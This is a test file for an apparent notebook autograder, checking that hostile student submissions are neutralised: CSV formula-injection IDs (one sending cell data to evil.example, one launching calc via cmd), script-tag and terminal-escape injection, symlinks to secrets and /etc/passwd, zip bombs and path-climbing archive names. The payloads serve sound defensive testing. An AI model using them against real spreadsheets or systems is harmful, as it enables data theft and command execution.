"""Hostile input: no student stops the class, poses as another or reaches the
grader's files, and no output obeys what a student wrote.

Two graded classes carry the attacks that need a whole run (one in
nbgrader's layout, one as a Moodle download), each beside control students
whose grades must not move; the tests below them read their outputs. The
fast tests call discovery, unpacking and the writers directly, and a
property test (Hypothesis) mutates a small class's metadata, names and
timestamps with a stand-in for the kernel.
"""

import io
import json
import os
import re
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import nbformat
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from mlgrade.classrun import run as run_module
from mlgrade.classrun.lms import open_submissions
from mlgrade.grading import worker as worker_module
from mlgrade.grading.course import load_course, read_submission, rebuild
from mlgrade.grading.result import Result, TaskResult

from .fixture_course import (
    ASSIGNMENT,
    BLANK_HYPOTHESIS,
    BLANK_SIGMOID,
    HYPOTHESIS,
    SIGMOID,
    notebook,
    write_course,
)
from .test_mlgrade_e2e import ROOT, _rows

NOTEBOOK = f"{ASSIGNMENT}.ipynb"
EXCHANGE = "submission_secret.txt"  #: nbgrader's, handed back with feedback
STAMP = b"2026-11-20 12:00:00.000000 UTC\n"
SECRET = "5ec7e7" * 5 + "ab"  #: the course's grading secret in these runs
DUE = ["--due", "2026-11-21T00:00:00Z"]
LIMITS = ["--timeout", "30", "--step-timeout", "8", "--jobs", "2"]


def _bytes(nb):
    return nbformat.writes(nb).encode()


def _invalid_bytes(nb):
    """``nb`` as JSON, as it is even where nbformat's schema would refuse it
    (a student's editor or script can write any JSON)."""
    return json.dumps(nb, indent=1).encode()


CORRECT = _bytes(notebook())
BLANK = _bytes(notebook(BLANK_SIGMOID, BLANK_HYPOTHESIS))


def _with_cell(meta, source="x = 1", cell_type="code", nb=None):
    """The correct notebook with one more cell whose metadata is ``meta``."""
    nb = nb or notebook()
    make = (
        nbformat.v4.new_code_cell
        if cell_type == "code"
        else nbformat.v4.new_markdown_cell
    )
    cell = make(source)
    cell["metadata"] = meta
    nb.cells.insert(2, cell)
    return _invalid_bytes(nb)


def _grade(submissions, course, out, *extra):
    """``python -m mlgrade`` on ``submissions``; (process, run folder or None)."""
    cmd = [sys.executable, "-m", "mlgrade", str(submissions), "--course", str(course)]
    cmd += ["--out", str(out), "--quiet", *LIMITS, *extra]
    proc = subprocess.run(cmd, cwd=ROOT, capture_output=True, timeout=900)
    latest = Path(out, "latest")
    return proc, latest.resolve() if latest.exists() else None


def _course_and_secret(tmp):
    course = write_course(tmp / "course")
    out = tmp / "out"
    out.mkdir()
    (out / ".secret").write_text(SECRET + "\n")  # as load_secret keeps it
    return course, out


def _write(folder, files):
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return folder


def _everything(run, proc):
    """Every byte a run wrote or printed."""
    data = [proc.stdout, proc.stderr]
    for path in sorted(run.rglob("*")):
        if path.is_file():
            data.append(path.read_bytes())
            if path.suffix == ".zip":
                with zipfile.ZipFile(path) as archive:
                    data += [archive.read(n) for n in archive.namelist()]
    return b"\n".join(data)


def _scores(run):
    return {r["student_id"]: float(r["score"]) for r in _rows(run / "grades.csv")}


def _problems(run):
    return [
        (p["student_id"], p["problem"], p["detail"])
        for p in _rows(run / "problems.csv")
    ]


# --- a class in nbgrader's layout -------------------------------------------------

INJECTED = "'wrong\\n\\n<script>alert(1)</script>\\n# Injected heading\\n| a | b |'"
#: raises the message when sigmoid is called, and once as its cell runs (a
#: cell's error is in summary.md and on the feedback page)
SCRIPT_ERROR = (
    f"def sigmoid(z):\n    raise RuntimeError({INJECTED})\n\n\n"
    f"raise RuntimeError({INJECTED})"
)
IDS = {
    "formula": '=HYPERLINK("https:evil.example?"&A1,"click")',
    "command": "-2+3+cmd|' /C calc'!A0".replace("/", ""),
    "at": "@SUM(1+1)",
}
REJECTED = {
    "rtl": "abc\u202egpj.exe",
    "newline": "eve\nmallory",
    "dots": "...",
    "escape": "\x1b[2J\x1b[31mroot",
}


@pytest.fixture(scope="module")
def nbgrader_class(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile-nbgrader")
    course, out = _course_and_secret(tmp)
    subs = tmp / "submitted"
    master = course / "solutions" / ASSIGNMENT / NOTEBOOK

    def student(name, files, stamp=STAMP):
        folder = _write(subs / name / ASSIGNMENT, files)
        if stamp is not None:
            (folder / "timestamp.txt").write_bytes(stamp)
        return folder

    # with nbgrader's exchange files, so its feedback is in nbgrader's layout
    student("control-correct", {NOTEBOOK: CORRECT, EXCHANGE: b"f00d" * 8 + b"\n"})
    student("control-blank", {NOTEBOOK: BLANK})
    student("meta-string", {NOTEBOOK: _with_cell({"nbgrader": "oops"})})
    student(
        "meta-list", {NOTEBOOK: _with_cell({"nbgrader": {"grade_id": ["sigmoid"]}})}
    )
    student("meta-not-a-dict", {NOTEBOOK: _with_cell(["x"], cell_type="markdown")})
    student("stamp-bytes", {NOTEBOOK: CORRECT}, b"\xff\xfe\x00 2026")
    student("stamp-text", {NOTEBOOK: CORRECT}, b'=IMPORTXML("x")\n')
    student("link-master", {}).joinpath(NOTEBOOK).symlink_to(master)
    linked = student("link-secret", {NOTEBOOK: CORRECT}, None)
    for name in ("timestamp.txt", "submission_secret.txt", "notes.txt"):
        (linked / name).symlink_to(out / ".secret")
    hard = student("hardlink-secret", {NOTEBOOK: CORRECT}, None)
    os.link(out / ".secret", hard / "timestamp.txt")
    for key, sid in IDS.items():
        student(sid, {NOTEBOOK: CORRECT if key != "at" else BLANK})
    for sid in REJECTED.values():
        student(sid, {NOTEBOOK: CORRECT})
    student("script-error", {NOTEBOOK: _bytes(notebook(SCRIPT_ERROR))})
    student("escape-name", {"\x1b]0;owned\x07\x1b[2Jwork.ipynb": CORRECT})
    proc, run = _grade(subs, course, out, *DUE)
    return {"proc": proc, "run": run, "course": course}


def _finished(found):
    assert found["proc"].returncode == 0, found["proc"].stderr[-3000:]
    return found["run"]


@pytest.mark.slow
def test_controls_keep_their_grades_beside_every_attack(nbgrader_class):
    scores = _scores(_finished(nbgrader_class))
    assert scores["control-correct"] == 5.0 and scores["control-blank"] == 0.0


@pytest.mark.slow
@pytest.mark.parametrize("student", ["meta-string", "meta-list", "meta-not-a-dict"])
def test_bad_nbgrader_metadata_stops_nothing(nbgrader_class, student):
    """A cell whose ``metadata.nbgrader`` is a string, whose grade_id is a list,
    whose metadata is a list: that cell is ignored, the rest graded."""
    assert _scores(_finished(nbgrader_class))[student] == 5.0


@pytest.mark.slow
@pytest.mark.parametrize("student", ["stamp-bytes", "stamp-text"])
def test_a_timestamp_that_is_no_date_is_ignored_and_reported(nbgrader_class, student):
    run = _finished(nbgrader_class)
    rows = {r["student_id"]: r for r in _rows(run / "grades.csv")}
    assert rows[student]["timestamp"] == "" and float(rows[student]["score"]) == 5.0
    assert rows["control-correct"]["timestamp"] == STAMP.decode().strip()
    found = [p for p in _problems(run) if p[0] == student]
    assert [p[1] for p in found] == ["timestamp ignored", "no submission time"]
    assert "IMPORTXML" not in (run / "grades.csv").read_text()


@pytest.mark.slow
def test_a_notebook_linked_to_the_master_is_never_read(nbgrader_class):
    run = _finished(nbgrader_class)
    assert _scores(run)["link-master"] == 0.0
    assert ("link-master", "unreadable notebook") in [p[:2] for p in _problems(run)]
    page = (run / "feedback" / "link-master" / f"{ASSIGNMENT}.html").read_text()
    assert "<pre>" not in page and "def sigmoid" not in page


@pytest.mark.slow
def test_the_secret_reaches_no_output(nbgrader_class):
    """timestamp.txt, submission_secret.txt and an extra file linked (or hard
    linked) to the grading secret: not read, not copied, not printed."""
    run = _finished(nbgrader_class)
    assert SECRET.encode() not in _everything(run, nbgrader_class["proc"])
    scores = _scores(run)
    assert scores["link-secret"] == 5.0 and scores["hardlink-secret"] == 5.0
    details = {p[0]: p[2] for p in _problems(run) if p[1] == "timestamp ignored"}
    assert "symbolic link" in details["link-secret"]
    assert "hard link" in details["hardlink-secret"]
    handed_back = run / "nbgrader-feedback"
    assert (handed_back / "control-correct" / ASSIGNMENT / EXCHANGE).is_file()
    assert not (handed_back / "link-secret").exists()


@pytest.mark.slow
def test_formula_ids_are_quoted_in_every_csv(nbgrader_class):
    """OWASP: a cell starting with = + - @ gets a leading quote; scores stay
    numbers."""
    run = _finished(nbgrader_class)
    names = ("grades.csv", "task_scores.csv", "problems.csv", "similarity.csv")
    for name in (*names, "changes.csv", "results.jsonl"):
        if name.endswith(".csv"):
            for row in _rows(run / name):
                for value in row.values():
                    is_number = re.fullmatch(r"-?\d+(\.\d+)?", value)
                    assert is_number or not value.startswith(("=", "+", "-", "@")), (
                        name,
                        value,
                    )
    scores = _scores(run)
    for key, sid in IDS.items():
        assert scores["'" + sid] == (5.0 if key != "at" else 0.0)


@pytest.mark.slow
@pytest.mark.parametrize("key", sorted(REJECTED))
def test_a_rejected_id_is_reported_not_dropped(nbgrader_class, key):
    """Right-to-left overrides, newlines, dots only, escape sequences: not
    graded, and listed (made visible) in problems.csv."""
    run = _finished(nbgrader_class)
    text = (run / "grades.csv").read_text()
    assert REJECTED[key] not in text and "\u202e" not in text
    rows = [p for p in _problems(run) if p[1] == "student id rejected"]
    assert len(rows) == len(REJECTED)
    shown = REJECTED[key].replace("\u202e", "\\u202e").replace("\n", "\\u000a")
    shown = shown.replace("\x1b", "\\u001b")
    assert any(shown in p[0] for p in rows)


@pytest.mark.slow
def test_student_text_cannot_write_markdown_html_or_the_terminal(nbgrader_class):
    """A cell's error message with line breaks, <script>, a heading and table
    pipes: rendered (by markdown-it, as Jupyter Book renders Markdown) it is
    one inert cell of its row; on the feedback page, escaped text."""
    run = _finished(nbgrader_class)
    proc = nbgrader_class["proc"]
    summary = (run / "summary.md").read_text()
    rendered = MarkdownIt("commonmark").enable("table").render(summary)
    assert "<script>" not in rendered and "Injected heading</h1>" not in rendered
    assert re.findall(r"<h\d>", rendered) == ["<h1>", "<h2>"]
    assert "&lt;script&gt;alert(1)" in rendered  # the message is there, inert
    for table in re.findall(r"<table>.*?</table>", rendered, re.S):
        rows = re.findall(r"<tr>(.*?)</tr>", table, re.S)
        widths = {len(re.findall(r"<t[dh]>", row)) for row in rows}
        assert len(widths) == 1, widths  # no row split or widened
    assert b"\x1b" not in proc.stdout + proc.stderr + summary.encode()
    page = (run / "feedback" / "script-error" / f"{ASSIGNMENT}.html").read_text()
    assert "<script>" not in page and "&lt;script&gt;alert(1)" in page
    assert _scores(run)["escape-name"] == 5.0


# --- an LMS download ---------------------------------------------------------------


def _zip(files, deflate=True):
    buffer = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _targz(files):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", encoding="utf-8") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


MOODLE = "assignsubmission_file_"
ESCAPES = "\x1b[2J\x1b]0;pwned\x07"  #: clear the screen, retitle the window
NON_UTF8 = os.fsdecode(b"\xff\xfe-work.ipynb")


@pytest.fixture(scope="module")
def moodle_class(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile-moodle")
    course, out = _course_and_secret(tmp)
    master = course / "solutions" / ASSIGNMENT / NOTEBOOK
    download = tmp / "moodle-download"
    files = {
        f"Alice A_11111_{MOODLE}/{NOTEBOOK}": CORRECT,
        f"Alice A_11111_{MOODLE}/{ESCAPES}notes.txt": b"x",
        f"Bob B_33333_{MOODLE}/{NOTEBOOK}": BLANK,
        # Eve hands in a file whose own name carries another student's id
        f"Eve E_44444_{MOODLE}/x_22222_1_{NOTEBOOK}": BLANK,
        f"Mal M_55555_{MOODLE}/upload.zip": _zip({f"y_22223_1_{NOTEBOOK}": CORRECT}),
        # an attempt time that is no date
        f"PS 00_mallory_attempt_9-9-9-9-9-99_{NOTEBOOK}": CORRECT,
        # two files claiming one student's notebook
        f"Dup D_66666_{MOODLE}{NOTEBOOK}": CORRECT,
        f"Dup D_66666_{MOODLE}/{NOTEBOOK}": BLANK,
        f"Tar T_77777_{MOODLE}/work.tar.gz": _targz(
            {NOTEBOOK: CORRECT, NON_UTF8: CORRECT}
        ),
        f"Zed Z_88888_{MOODLE}/bomb.zip": _zip(
            {NOTEBOOK: CORRECT, "big.bin": bytes(40 << 20)}
        ),
    }
    for name, data in files.items():
        path = download / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    linked = download / f"Lin L_99999_{MOODLE}"
    linked.mkdir()
    (linked / NOTEBOOK).symlink_to(master)
    (linked / "timestamp.txt").symlink_to(out / ".secret")
    proc, run = _grade(download, course, out, "--assignment", ASSIGNMENT)
    return {"proc": proc, "run": run}


@pytest.mark.slow
def test_download_controls_keep_their_grades(moodle_class):
    scores = _scores(_finished(moodle_class))
    assert scores["11111"] == 5.0 and scores["33333"] == 0.0


@pytest.mark.slow
def test_file_names_reach_the_terminal_without_escape_sequences(moodle_class):
    """The files not graded are listed on the terminal, names made visible."""
    proc = moodle_class["proc"]
    _finished(moodle_class)
    assert b"\x1b" not in proc.stdout + proc.stderr and b"\x07" not in proc.stderr
    assert "\\u001b[2J\\u001b]0;pwned\\u0007notes.txt" in proc.stderr.decode()


@pytest.mark.slow
def test_a_name_inside_an_upload_never_decides_whose_work_it_is(moodle_class):
    """Eve's ``x_22222_1_...`` is Eve's, Mal's zip holding ``y_22223_1_...`` is
    not 22223's: 22222 and 22223, who handed in nothing, get nothing."""
    scores = _scores(_finished(moodle_class))
    assert "22222" not in scores and "22223" not in scores
    assert scores["44444"] == 0.0 and scores["55555"] == 5.0


@pytest.mark.slow
def test_an_attempt_time_that_is_no_date_stops_nothing(moodle_class):
    run = _finished(moodle_class)
    assert _scores(run)["mallory"] == 5.0
    assert ("mallory", "timestamp ignored") in [p[:2] for p in _problems(run)]


@pytest.mark.slow
def test_two_files_claiming_one_student_are_both_reported(moodle_class):
    run = _finished(moodle_class)
    assert "66666" not in _scores(run)
    rows = [p for p in _problems(run) if p[1] == "duplicate submission"]
    assert [p[0] for p in rows] == ["66666", "66666"] and rows[0][2] != rows[1][2]


@pytest.mark.slow
def test_an_archive_member_name_that_is_no_text_is_left_out(moodle_class):
    run = _finished(moodle_class)
    assert _scores(run)["77777"] == 5.0
    rows = [p[2] for p in _problems(run) if p[1] == "not unpacked"]
    assert any("work/\\udcff" in r or "\\xff" in r or "UTF-8" in r for r in rows), rows


@pytest.mark.slow
def test_a_zip_bomb_is_stopped_and_reported(moodle_class):
    run = _finished(moodle_class)
    assert _scores(run)["88888"] == 5.0  # what came before the bomb is graded
    rows = [p[2] for p in _problems(run) if p[1] == "not unpacked"]
    assert any("bomb" in r and "times its size" in r for r in rows), rows


@pytest.mark.slow
def test_links_in_a_download_are_never_followed(moodle_class):
    run = _finished(moodle_class)
    assert "99999" not in _scores(run)
    assert SECRET.encode() not in _everything(run, moodle_class["proc"])
    rows = [p[2] for p in _problems(run) if p[1] == "not unpacked"]
    assert sum("symbolic link" in r for r in rows) == 2


# --- fast: no kernel ----------------------------------------------------------------


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    root = write_course(tmp_path_factory.mktemp("course") / "course")
    return root, load_course(str(root))


def test_a_zip_inside_a_canvas_upload_names_nobody(course, tmp_path):
    """Canvas: ``doejane_12345_67890_work.zip`` holding ``x_22222_1_...``."""
    download = tmp_path / "submissions.zip"
    inner = _zip({f"x_22222_1_{NOTEBOOK}": CORRECT})
    download.write_bytes(
        _zip({"doejane_12345_67890_work.zip": inner, f"bob_333_4_{NOTEBOOK}": BLANK})
    )
    with open_submissions(download, course[1], assignment=ASSIGNMENT) as found:
        students = sorted(p.name for p in found.folder.iterdir())
    assert students == ["333"]


def test_ids_from_a_download_are_checked_and_reported(course, tmp_path):
    """Blackboard-style names whose id part holds a bidi override, a newline or
    only dots: nobody is graded under them (``..`` would name the folder
    above), and each is a problem row, not silently dropped."""
    attempt = "_attempt_2026-11-20-12-00-00_"
    bad = ["j\u202edoe", "eve\nmal", ".."]
    files = {f"PS 00_{sid}{attempt}{NOTEBOOK}": CORRECT for sid in bad}
    files[f"PS 00_jdoe{attempt}{NOTEBOOK}"] = CORRECT
    download = tmp_path / "submissions.zip"
    download.write_bytes(_zip(files))
    with open_submissions(download, course[1], assignment=ASSIGNMENT) as found:
        students = sorted(p.name for p in found.folder.iterdir())
        problems = list(found.problems)
    assert students == ["jdoe"]
    assert len(problems) == len(bad), problems
    shown = " ".join(detail for _, _, detail in problems)
    assert "j\\u202edoe" in shown and "eve\\u000amal" in shown and "PS 00_.._" in shown
    assert "\u202e" not in shown and "\n" not in shown


def test_archive_limits_each_stop_their_archive(tmp_path):
    from mlgrade.classrun.archives import ArchiveLimits, unpack

    nested = _zip({"a.txt": b"x"})
    for _ in range(4):
        nested = _zip({"inner.zip": nested})
    cases = {
        "depth": (_zip({"deep.zip": nested}), ArchiveLimits(), "nested deeper"),
        "entries": (
            _zip({f"f{i}.txt": b"x" for i in range(50)}),
            ArchiveLimits(entries=20),
            "more than 20 files",
        ),
        "total": (
            _zip({"a.bin": os.urandom(3000), "b.bin": os.urandom(3000)}),
            ArchiveLimits(total_bytes=4000),
            "more than 4000 bytes",
        ),
        "ratio": (
            _zip({"zeros.bin": bytes(3 << 20)}),
            ArchiveLimits(),
            "more than 100 times its size",
        ),
    }
    for name, (data, limits, why) in cases.items():
        archive = tmp_path / f"{name}.zip"
        archive.write_bytes(data)
        left_out, _ = unpack(archive, tmp_path / f"out-{name}", limits)
        assert any(why in w for _, w in left_out), (name, left_out)
        written = sum(
            p.stat().st_size
            for p in (tmp_path / f"out-{name}").rglob("*")
            if p.is_file()
        )
        assert written <= 6000, (name, written)


def test_a_nested_fan_out_is_held_to_the_outer_archives_size(tmp_path):
    """A student's zip of 100 small zips, each unpacking to 1 MiB (within the
    per-archive floor): together 100 MiB from a few KB. Each archive is held
    to its ratio counting what the archives inside it unpack."""
    from mlgrade.classrun.archives import ArchiveLimits, unpack

    inner = _zip({"zeros.bin": bytes(1 << 20)})
    fan = _zip({f"part{i:03}.zip": inner for i in range(100)})
    download = tmp_path / "download.zip"
    download.write_bytes(
        _zip({"doejane_1_2_fan.zip": fan, f"roebob_3_4_{NOTEBOOK}": CORRECT})
    )
    left_out, _ = unpack(download, tmp_path / "out")
    written = sum(
        p.stat().st_size for p in (tmp_path / "out").rglob("*") if p.is_file()
    )
    limits = ArchiveLimits()
    bound = max(limits.ratio_floor, limits.ratio * len(fan)) + (1 << 20)
    assert written <= bound, (written, len(fan))
    assert any("fan" in p and "times its size" in w for p, w in left_out), left_out
    # the other student's notebook is unpacked all the same
    assert (
        tmp_path / "out/download" / f"roebob_3_4_{NOTEBOOK}"
    ).read_bytes() == CORRECT


def test_tar_links_devices_and_climbing_names_are_never_written(tmp_path):
    from mlgrade.classrun.archives import unpack

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, kind in [
            ("link", tarfile.SYMTYPE),
            ("hard", tarfile.LNKTYPE),
            ("fifo", tarfile.FIFOTYPE),
        ]:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, "/etc/passwd"
            archive.addfile(info)
        for name in ("../escape.txt", "/abs.txt", "ok.txt"):
            info = tarfile.TarInfo(name)
            info.size = 2
            archive.addfile(info, io.BytesIO(b"hi"))
    (tmp_path / "d.tar.gz").write_bytes(buffer.getvalue())
    left_out, _ = unpack(tmp_path / "d.tar.gz", tmp_path / "out")
    written = sorted(
        str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if not p.is_dir()
    )
    assert written == ["d.tar.gz", "out/d/ok.txt"]
    assert len(left_out) == 5


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),
        ("+2e3", "+2e3"),
        (-3.0, -3.0),
        ("-", "-"),
        ("plain", "plain"),
    ],
)
def test_csv_cells_follow_owasp(value, cell):
    from mlgrade.insight.safe_text import csv_cell

    assert csv_cell(value) == cell


def test_markdown_html_and_terminal_text_are_inert():
    from mlgrade.insight.safe_text import html_text, markdown_cell, terminal

    cell = markdown_cell("a\n# h\n<script>x</script> | [l](u) *e*")
    assert "\n" not in cell and "<" not in cell and " | " not in cell
    assert "\\[l\\](u)" in cell and "\\*e\\*" in cell
    assert html_text('<a href="x">\u202e') == "&lt;a href=&quot;x&quot;&gt;\\u202e"
    assert terminal("\x1b[2Jok\r\x07") == "\\u001b[2Jok\\u000d\\u0007"


# --- the property: mutate a small class --------------------------------------------

CONTROLS = {"c-correct": (CORRECT, 5.0), "c-blank": (BLANK, 0.0)}


def _stand_in_grade(job, assignment, raw):
    """The kernel's stand-in: full marks exactly when the answers are the
    master's (what the real checks give these two notebooks)."""
    result = Result(job.student, assignment.name, timestamp=job.timestamp)
    try:
        _, found = rebuild(assignment, read_submission(raw))
    except ValueError:
        found = {}
    right = found == {"sigmoid": SIGMOID, "hypothesis": HYPOTHESIS}
    result.tasks = [
        TaskResult(t.grade_id, t.points if right else 0.0, t.points)
        for t in assignment.tests
    ]
    return result


META = st.one_of(
    st.none(),
    st.integers(),
    st.text(max_size=8),
    st.lists(st.text(max_size=4), max_size=2),
    st.fixed_dictionaries(
        {
            "grade_id": st.one_of(
                st.sampled_from(["sigmoid", "hypothesis", "relu", "sigmoid_values"]),
                st.lists(st.just("sigmoid"), max_size=2),
                st.integers(),
                st.none(),
            )
        },
        optional={"solution": st.booleans(), "grade": st.booleans()},
    ),
)
NAME = st.text(
    st.characters(blacklist_characters="/\x00", blacklist_categories=("Cs",)),
    min_size=1,
    max_size=12,
).filter(lambda s: s not in (".", "..") and len(s.encode()) < 200)
STAMPS = st.one_of(
    st.binary(max_size=30),
    st.sampled_from([b"", STAMP, b"2026-13-45 99:99", b"=1+1\n", b"link"]),
)


@settings(
    max_examples=12,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    base=st.sampled_from(["correct", "blank"]),
    where=st.sampled_from(["cell", "metadata", "nbgrader"]),
    meta=META,
    student=NAME,
    notebook_name=st.one_of(st.just(NOTEBOOK), NAME.map(lambda s: s + ".ipynb")),
    stamp=STAMPS,
)
def test_property_a_mutated_student_never_harms_the_class(
    tmp_path_factory, monkeypatch, base, where, meta, student, notebook_name, stamp
):
    tmp = tmp_path_factory.mktemp("property")
    course, out = _course_and_secret(tmp)
    subs = tmp / "submitted"
    for name, (data, _) in CONTROLS.items():
        _write(subs / name / ASSIGNMENT, {NOTEBOOK: data, "timestamp.txt": STAMP})
    nb = notebook() if base == "correct" else notebook(BLANK_SIGMOID, BLANK_HYPOTHESIS)
    cell = nb.cells[2]  # the sigmoid answer cell
    if where == "cell":
        cell["metadata"]["nbgrader"]["grade_id"] = meta
    elif where == "metadata":
        cell["metadata"] = meta
    else:
        cell["metadata"]["nbgrader"] = meta
    raw = _invalid_bytes(nb)
    if student in CONTROLS:
        student += "-x"
    folder = subs / student / ASSIGNMENT
    _write(folder, {notebook_name: raw})
    if stamp == b"link":
        (folder / "timestamp.txt").symlink_to(out / ".secret")
    else:
        (folder / "timestamp.txt").write_bytes(stamp)

    def grade_here(work, jobs, progress):
        return [worker_module.grade_job(job) for job in work]

    monkeypatch.setattr(worker_module, "grade", _stand_in_grade)
    monkeypatch.setattr(run_module, "_grade_locally", grade_here)
    options = run_module.RunOptions(progress=False, sandbox=False)
    run = run_module.grade_class(subs, course, out, options)

    for name in ("grades.csv", "task_scores.csv", "problems.csv", "summary.md"):
        assert (run / name).is_file()
    rows = {r["student_id"]: r for r in _rows(run / "grades.csv")}
    for name, (_, score) in CONTROLS.items():
        assert float(rows.pop(name)["score"]) == score
    # nobody else appears, and the mutated student gets no more than their own work
    assert len(rows) <= 1
    for row in rows.values():
        assert float(row["score"]) <= (5.0 if base == "correct" else 0.0)
        assert row["timestamp"] in ("", STAMP.decode().strip())
    assert SECRET.encode() not in b"".join(
        p.read_bytes() for p in run.rglob("*") if p.is_file()
    )
